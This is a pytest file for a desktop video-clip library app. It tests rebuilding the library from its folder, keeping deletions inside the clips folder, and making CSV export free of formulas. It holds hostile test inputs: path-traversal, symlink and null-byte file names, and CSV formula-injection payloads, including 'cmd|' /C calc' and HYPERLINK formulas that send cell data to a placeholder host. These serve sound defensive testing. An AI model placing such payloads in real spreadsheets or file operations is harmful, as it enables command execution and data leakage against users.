"""The library: it comes back from its folder alone, deleting touches nothing else, and its tables calculate nothing."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import random
import sqlite3
from contextlib import closing
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from sora_desktop.domain.jobs import DEMO_PROFILE_ID, Job
from sora_desktop.domain.library import ClipRecord, Marking
from sora_desktop.domain.library_events import LibraryWork
from sora_desktop.domain.requests import VideoRequest
from sora_desktop.domain.tables import csv_of
from sora_desktop.storage.clip_files import LibraryFiles
from sora_desktop.storage.clips import Clips
from sora_desktop.storage.database import SqliteJobStore
from sora_desktop.storage.sidecar import read_sidecar
from tests.fakes.hostile_names import HAND_PICKED
from tests.fakes.library_house import House, clip_like_no_other, file_of
from tests.promises import Tally
from tests.storage.keeping import a_done_job, kept, marked

# R8: the folder is the library.

CLIPS = 1_000
_OF_CLIP = (
    "job_id prompt file model shape style length_s made_at size_bytes sha256 profile_id batch_id is_demo price rating "
    "is_favourite is_rejected is_trashed is_missing"
).split()


def library_rows(database: Path) -> dict[str, tuple[Any, ...]]:
    """Every field of every clip but its number, with its tags, by job."""
    with closing(sqlite3.connect(database)) as connection:
        rows = connection.execute(f"SELECT number, {', '.join(_OF_CLIP)} FROM clips").fetchall()
        tags: dict[int, list[str]] = {}
        for number, tag in connection.execute("SELECT number, tag FROM clip_tags ORDER BY tag"):
            tags.setdefault(number, []).append(tag)
    return {row[1]: (*row[1:], tuple(tags.get(row[0], ()))) for row in rows}


def all_jobs(database: Path, ids: list[str]) -> dict[str, Job | None]:
    store, told = SqliteJobStore.open(database)
    assert told == ()
    found = {job_id: store.find(job_id) for job_id in ids}
    store.close()
    return found


def any_request(chance: random.Random, number: int) -> dict[str, Any]:
    request = VideoRequest(
        prompt=chance.choice(HAND_PICKED)[:300] if number % 3 else f"纸船离开码头 {number}",
        model=chance.choice(("sora-2", "veo3.1-fast", "vidu2.0")),
        orientation=chance.choice(("portrait", "landscape")),
        duration_s=chance.choice((4, 8, 15)),
        style=chance.choice(("", "anime")),
        images=("https://a.example/1.png",) * chance.randrange(3),
        seed=str(number),
    )
    profile_id = chance.choice(("octopusx", "other", DEMO_PROFILE_ID))
    return {
        "request": request,
        "profile_id": profile_id,
        "origin": None if profile_id == DEMO_PROFILE_ID else "https://octopusx.ai",
        "take": chance.randint(1, 4),
        "replaces": chance.choice((None, "f" * 32)),
        "parent_id": chance.choice((None, "e" * 32)),
        "parent_kind": chance.choice(("", "take", "last frame")),
        "price": chance.choice((None, Decimal("0.25"))),
        "batch_id": chance.choice((None, "batch 1")),
        "batch_name": chance.choice(("", "Quays")),
        "request_id": chance.choice(("", "req-1")),
        "is_waited_for": chance.random() < 0.5,
        "progress": 100,
        "last_contact_at": 1_795_000_000.5 + number,
        "expires_at": chance.choice((None, 1_796_000_000.25)),
    }


def mark_some(database: Path, jobs: list[Job], chance: random.Random) -> None:
    store, _ = SqliteJobStore.open(database)
    for job in chance.sample(jobs, len(jobs) // 2):
        add = tuple(chance.sample(["sea", "码头", "client's", "keep"], chance.randrange(4)))
        marking = Marking(chance.randint(0, 5), chance.random() < 0.5, chance.random() < 0.2, add)
        marked(store, [job], marking)
    store.close()


def move_some(jobs: list[Job], chance: random.Random, folder: Path) -> dict[str, str]:
    """Move and rename clips as a person does in a file manager, each fifth of them without its sidecar."""
    moved: dict[str, str] = {}
    (folder / "best of").mkdir()
    for number, job in enumerate(chance.sample(jobs, len(jobs) // 10)):
        file = file_of(job)
        there = file.parent / f"mine {number}.mp4" if number % 5 else folder / "best of" / f"{number}.mp4"
        moved[job.id] = str(file.rename(there))
    return moved


@pytest.mark.promise("R8")
def test_a_library_comes_back_from_its_folder_alone(
    tmp_path: Path, chance: random.Random, tally: Tally, no_sync: None
) -> None:
    async def scenario() -> None:
        house = House(tmp_path)
        jobs = house.fill_with([any_request(chance, number) for number in range(CLIPS)])
        mark_some(house.database, jobs, chance)
        async with house.open():
            await house.all_written()
        before, rows = {job.id: job for job in jobs}, library_rows(house.database)
        assert len(rows) == CLIPS
        moved = move_some(jobs, chance, house.clips_folder)
        for each in house.folder.glob("jobs*"):
            each.unlink()
        async with house.open() as engine:
            engine.rebuild_library()
            over = await house.heard(LibraryWork, lambda event: event.is_over)
            assert over.sentence == "1,000 clips came back."
        after, again = all_jobs(house.database, list(before)), library_rows(house.database)
        place = _OF_CLIP.index("file")
        for job_id, job in before.items():
            file = moved.get(job_id, job.file)
            assert after[job_id] == replace(job, file=file)
            assert again[job_id] == (*rows[job_id][:place], file, *rows[job_id][place + 1 :])
        tally.count(CLIPS, found_elsewhere=len(moved))

    asyncio.run(scenario())


@pytest.fixture
def no_sync(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "fsync", lambda _: None)


# R15: deleting stays inside the library.


class Grounds:
    """A clips folder with one clip, and a world around it that must not change."""

    def __init__(self, folder: Path) -> None:
        self.inside = folder / "Videos" / "Sora Desktop"
        self.outside = folder / "precious"
        self.bin = folder / "bin"
        for each in (self.inside, self.outside, self.bin):
            each.mkdir(parents=True)
        (self.outside / "clip.mp4").write_bytes(clip_like_no_other(0))
        (self.outside / "notes.txt").write_bytes(b"precious")
        (folder / "Videos" / "beside.mp4").write_bytes(clip_like_no_other(1))
        self.files = LibraryFiles(lambda: str(self.inside), self.inside)

    def world(self) -> dict[str, bytes]:
        """Everything that is no part of the library."""
        folders = (self.outside, self.inside.parent)
        return {
            str(path): path.read_bytes()
            for folder in folders
            for path in sorted(folder.rglob("*"))
            if path.is_file() and not path.is_relative_to(self.inside)
        }

    def delete(self, record: ClipRecord) -> tuple[str, ...]:
        """What the window does: ask, then move what may be moved."""
        files, _ = self.files.removable([record])
        for number, file in enumerate(files.get(record.job_id, ())):
            Path(file).rename(self.bin / f"{len(list(self.bin.iterdir()))} {number}")
        return files.get(record.job_id, ())


def hostile_files(grounds: Grounds) -> list[str]:
    inside, outside = str(grounds.inside), str(grounds.outside)
    climbs = [
        f"{inside}/../../precious/clip.mp4", f"{inside}/./../beside.mp4", f"{inside}/../beside.mp4",
        f"{inside}//../../precious/clip.mp4", f"{outside}/clip.mp4", f"{outside}/notes.txt", "clip.mp4", "", "/", ".",
        "..", inside, f"{inside}/", outside, f"{inside}/linked.mp4", f"{inside}/door/clip.mp4",
        f"{inside}/door/../../beside.mp4", f"{inside}/gone.mp4", f"{inside}\0/clip.mp4", f"{inside}/clip.mp4\0.txt",
        f"{inside}extra/clip.mp4", f"{inside.upper()}/clip.mp4", f"{inside}/.parts/half.mp4", f"{inside}/jobs.sqlite3",
        f"{inside}/.hidden.mp4", f"file://{outside}/clip.mp4", f"~/{outside}/clip.mp4", f"{inside}/Demo",
    ]  # fmt: skip
    return climbs + [f"{base}/{name}" for name in HAND_PICKED for base in (inside, outside)]


@pytest.mark.promise("R15")
def test_no_record_whatever_it_names_touches_a_file_outside(tmp_path: Path, tally: Tally) -> None:
    grounds = Grounds(tmp_path)
    inside, size = grounds.inside, len(clip_like_no_other(0))
    (inside / "linked.mp4").symlink_to(grounds.outside / "clip.mp4")
    (inside / "door").symlink_to(grounds.outside)
    (inside / ".parts").mkdir()
    for name in (".parts/half.mp4", ".hidden.mp4", "jobs.sqlite3"):
        (inside / name).write_bytes(clip_like_no_other(2))
    (inside / "Demo").mkdir()
    before, inner = grounds.world(), sorted(inside.rglob("*"))
    formers = ("", str(grounds.outside), "/", str(inside), "relative", "\0")
    cases = 0
    for file in hostile_files(grounds):
        for former in formers:
            assert grounds.delete(ClipRecord("1" * 32, file, size, "5" * 64, clips_folder=former)) == (), (file, former)
            cases += 1
    assert grounds.world() == before
    assert sorted(inside.rglob("*")) == inner
    tally.count(cases, touched_outside=0)


@pytest.mark.promise("R15")
def test_a_former_folder_counts_only_for_clips_whose_sidecars_say_so(tmp_path: Path, tally: Tally) -> None:
    grounds = Grounds(tmp_path)
    former = Clips(tmp_path / "former" / "clips")
    job = a_done_job()
    clip = kept(former, job)
    record = ClipRecord(job.id, clip.file, clip.size_bytes, clip.sha256, clips_folder=former.path)
    assert grounds.delete(replace(record, job_id="2" * 32)) == ()
    assert grounds.delete(replace(record, clips_folder="")) == ()
    assert grounds.delete(record) == (clip.file, f"{clip.file[:-4]}.json")
    tally.count(3)


@pytest.mark.promise("R15")
def test_a_clip_goes_with_its_own_sidecar_and_can_be_brought_back(tmp_path: Path, tally: Tally) -> None:
    grounds = Grounds(tmp_path)
    clips = Clips(grounds.inside)
    ours, others = a_done_job(), a_done_job(id="1" * 32, intent_id="other", task_id="other")
    clip, other = kept(clips, ours), kept(clips, others)
    record = ClipRecord(ours.id, clip.file, clip.size_bytes, clip.sha256)
    sidecar = Path(clip.file).with_suffix(".json")
    text = sidecar.read_bytes()
    sidecar.write_bytes(Path(other.file).with_suffix(".json").read_bytes())
    assert grounds.files.removable([record])[0] == {ours.id: (clip.file,)}  # somebody else's sidecar stays
    sidecar.write_bytes(text)
    Path(clip.file).write_bytes(b"somebody wrote something else here")
    assert grounds.files.removable([record])[0] == {}
    Path(clip.file).write_bytes(Path(other.file).read_bytes())
    files = grounds.delete(record)
    assert files == (clip.file, str(sidecar))
    for number, file in enumerate(files):
        (grounds.bin / f"{number} {number}").rename(file)
    assert read_sidecar(sidecar) is not None
    assert Path(other.file).exists()
    tally.count(3)


@pytest.mark.promise("R15")
def test_a_clips_folder_behind_a_link_is_a_clips_folder(tmp_path: Path, tally: Tally) -> None:
    grounds = Grounds(tmp_path)
    (tmp_path / "short").symlink_to(grounds.inside)
    files = LibraryFiles(lambda: str(tmp_path / "short"), tmp_path / "short")
    job = a_done_job()
    clip = kept(Clips(tmp_path / "short"), job)
    record = ClipRecord(job.id, clip.file, clip.size_bytes, clip.sha256)
    assert len(files.removable([record])[0][job.id]) == 2
    by_its_place = replace(record, file=str(grounds.inside / Path(clip.file).name))
    assert len(files.removable([by_its_place])[0][job.id]) == 2
    tally.count(2)


# S4: no cell of a table is anything but text.

_SIGNS = ("=", "+", "-", "@", "\t", "\r", " =", "\n=", '"=', "'=", "\u00a0=", "\ufeff=", "\u200b@", "＝", "\0=", " \t+")
_FORMULAS = tuple(f"{sign}cmd|' /C calc'!A0" for sign in _SIGNS) + tuple(
    f'{sign}HYPERLINK("https://x.example/?"&A1,"<img src=file:///x>")' for sign in _SIGNS
)


@pytest.mark.promise("S4")
def test_no_cell_of_an_exported_table_is_a_formula(tally: Tally) -> None:
    cells = [*_FORMULAS, *HAND_PICKED]
    text = csv_of(["=heads", "other"], ([cell, f"plain {cell}"] for cell in cells))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(cells) + 1
    for row in rows:
        assert len(row) == 2
        for cell in row:
            bare = cell.lstrip(" \n\v\f\u00a0\ufeff\u200b\u200e\u200f'\"") if not cell.startswith("'") else ""
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
            assert not bare.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), repr(cell)
            assert "\0" not in cell
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    tally.count(2 * len(rows))


def test_numbers_of_ours_and_words_stay_as_they_are() -> None:
    line = csv_of(["a"], [[-5, 0.25, None, True, "a paper boat", "纸船", "it's - fine"]]).splitlines()[1]
    assert line == '"-5","0.25","","yes","a paper boat","纸船","it\'s - fine"'
